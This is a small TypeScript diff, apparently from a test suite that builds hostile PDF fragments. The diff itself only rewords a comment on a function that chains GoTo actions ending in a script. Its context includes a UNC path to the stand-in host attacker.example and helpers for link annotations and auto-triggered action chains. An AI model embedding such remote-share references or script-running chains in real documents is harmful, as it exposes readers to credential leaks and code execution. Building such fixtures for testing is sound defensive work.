@@ -16,7 +16,7 @@ const SHARE = '(\\\\\\\\attacker.example\\\\share\\\\x.pdf)';
 const annotation = (entries: string): string => `/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]${entries}>>]`;
 const stream = (entries: string): string => `<<${entries}/Length 0>>\nstream\n\nendstream`;
 
-/** Returns actions of which each triggers the next one. The last action runs a script. */
+/** Returns a chain of actions, each of which triggers the next one. The last action runs a script. */
 function chain(length: number): string[] {
   return Array.from({ length }, (_, index) => `<</S/GoTo/D[3 0 R/Fit]/Next ${6 + index} 0 R>>`).concat(SCRIPT);
 }
